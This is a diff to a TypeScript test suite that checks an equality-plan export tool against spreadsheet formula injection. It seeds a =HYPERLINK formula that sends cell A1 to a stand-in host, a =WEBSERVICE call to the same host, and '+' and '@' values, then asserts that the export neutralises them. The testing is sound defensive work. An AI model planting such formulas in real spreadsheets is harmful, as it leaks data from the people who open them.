@@ -9,13 +9,13 @@ import { join } from "node:path";
 import ExcelJS from "exceljs";
 import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { getPlanActions, updateAction } from "../../src/data/index.ts";
+import { getPlanActions, getPlanIndicators, recordIndicatorValue, updateAction } from "../../src/data/index.ts";
 import { SEED_EQUALITIES_LEAD_UPN } from "../../src/seed/people.ts";
 import { type SeededSite, startSeededSite } from "../helpers/seeded-site.ts";
 import { runCli } from "../helpers/run-cli.ts";
 
 const PLAN = "Equality Objectives and Action Plan 2023-2027";
-const HEADERS = ["Role", "Objective", "Commitment", "Reference", "Action", "Officers", "Teams", "Success measures", "Due", "Status", "Disposition", "Characteristics", "Last update", "Last update date"];
+const HEADERS = ["Role", "Objective", "Commitment", "Reference", "Action", "Officers", "Teams", "Success measures", "Due", "Status", "Disposition", "Characteristics", "Last update", "Last update date", "Indicators"];
 const EVIL_TEXT = '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")';
 const EVIL_TEAMS = "+44 1622 602000 - switchboard";
 const EVIL_MEASURE = "@SUM(1+1)";
@@ -25,6 +25,9 @@ let site: SeededSite;
 let dir: string;
 let evilRef = "";
 let actionCount = 0;
+/** A note that a spreadsheet would run as a formula, on a value recorded in the test (and then corrected). */
+const EVIL_NOTE = "=WEBSERVICE(\"http://evil.invalid/\")";
+let indicatorRef = "";
 
 beforeAll(async () => {
   site = await startSeededSite();
@@ -35,6 +38,12 @@ beforeAll(async () => {
   const target = actions[1];
   evilRef = target.reference;
   await updateAction(sp, target.id, target.etag!, { text: EVIL_TEXT, teams: EVIL_TEAMS, successMeasures: [EVIL_MEASURE, EVIL_MEASURE_2] });
+  // The seeded indicator of the demonstration plan gets a value for 2023-24, then a correction.
+  const [ind] = await getPlanIndicators(sp, site.currentPlanId);
+  indicatorRef = actions.find((a) => a.id === ind.actionId)!.reference;
+  const now = new Date("2024-05-01T10:00:00Z");
+  await recordIndicatorValue(sp, { indicator: ind, input: { period: "2023-24", value: 12, note: EVIL_NOTE }, revisionSeen: 0, recordedBy: null, submissionKey: "x-1", now });
+  await recordIndicatorValue(sp, { indicator: ind, input: { period: "2023-24", value: 14, note: "Late returns counted." }, revisionSeen: 1, recordedBy: null, submissionKey: "x-2", now });
 });
 afterAll(async () => {
   await site?.close();
@@ -90,6 +99,35 @@ describe("eap export", () => {
       ws.getRow(n).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
     }
     expect(evilRow?.[HEADERS.indexOf("Action")]).toBe(`'${EVIL_TEXT}`);
+  });
+
+  test("XLSX: the plan's indicators and every value with its history; the values sheet reads back as an import", async () => {
+    const out = join(dir, "measures.xlsx");
+    const r = await runCli(["export", "--site", site.siteUrl, "--plan", PLAN, "--format", "xlsx", "--out", out]);
+    expect(r.code).toBe(0);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(out);
+    const rows = (name: string) => {
+      const ws = wb.getWorksheet(name)!;
+      const out: unknown[][] = [];
+      for (let n = 1; n <= ws.rowCount; n++) out.push((ws.getRow(n).values as unknown[]).slice(1));
+      return out;
+    };
+    const actions = rows("Actions");
+    const byRef = actions.find((row) => row[HEADERS.indexOf("Reference")] === indicatorRef)!;
+    expect(byRef[HEADERS.indexOf("Indicators")]).toBe("Consultation response rate from underrepresented groups: 14 % in 2023-24");
+    const indicators = rows("Indicators");
+    expect(indicators[0].slice(0, 5)).toEqual(["Action reference", "Indicator", "Unit", "Better when", "Frequency"]);
+    expect(indicators.slice(1).map((x) => [x[0], x[1], x[10]])).toEqual([[indicatorRef, "Consultation response rate from underrepresented groups", "14 % (2023-24)"]]);
+    const values = rows("Indicator values");
+    expect(values[0]).toEqual(["Action reference", "Indicator", "Period", "Group", "Value", "Note", "Unit", "Revision", "Current", "Recorded by", "Recorded at", "Reported by"]);
+    // Both revisions, the first marked as corrected; a note that would run as a formula is neutralised; values stay numbers.
+    expect(values.slice(1).map((x) => [x[2], x[4], x[5], x[7], x[8]])).toEqual([
+      ["2023-24", 12, `'${EVIL_NOTE}`, 1, "No (corrected)"],
+      ["2023-24", 14, "Late returns counted.", 2, "Yes"],
+    ]);
+    for (let n = 1; n <= wb.getWorksheet("Indicator values")!.rowCount; n++)
+      wb.getWorksheet("Indicator values")!.getRow(n).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
   });
 
   test("bad input: unknown format, mismatched extension, missing plan, unwritable path — exit 1, no file", async () => {
